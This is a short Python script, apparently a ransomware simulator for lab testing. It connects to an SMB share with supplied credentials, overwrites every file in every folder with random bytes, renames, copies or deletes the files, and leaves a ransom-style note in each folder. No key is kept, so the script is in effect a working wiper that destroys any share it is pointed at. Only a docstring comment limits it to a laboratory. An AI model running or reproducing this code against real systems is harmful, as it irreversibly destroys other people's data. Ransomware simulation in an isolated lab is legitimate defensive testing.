"""Rewrites the files of a share as ransomware does; run by itself, with the Python that has smbprotocol.

    python rewriting.py rename|inplace|copy SERVER SHARE USER PASSWORD

Only a laboratory's share is meant: the keys are thrown away.
"""

import os
import sys

import smbclient  # type: ignore[import-not-found]

_ENDING = ".k3yx"
_NOTE = b"Your files are encrypted. This is a laboratory.\r\n"


def main(way: str, server: str, share: str, user: str, password: str) -> None:
    """Every file of the share, folder by folder, and a note in each."""
    smbclient.register_session(server, username=user, password=password)
    for folder, _, names in smbclient.walk(rf"\\{server}\{share}"):
        for name in names:
            _rewrite(way, rf"{folder}\{name}")
        with smbclient.open_file(rf"{folder}\HOW_TO_RESTORE.txt", mode="wb") as note:
            note.write(_NOTE)


def _rewrite(way: str, path: str) -> None:
    with smbclient.open_file(path, mode="rb") as file:
        words = file.read()
    with smbclient.open_file(path + (_ENDING if way == "copy" else ""), mode="wb") as file:
        file.write(os.urandom(len(words)))
    if way == "rename":
        smbclient.rename(path, path + _ENDING)
    if way == "copy":
        smbclient.remove(path)


if __name__ == "__main__":
    main(*sys.argv[1:])
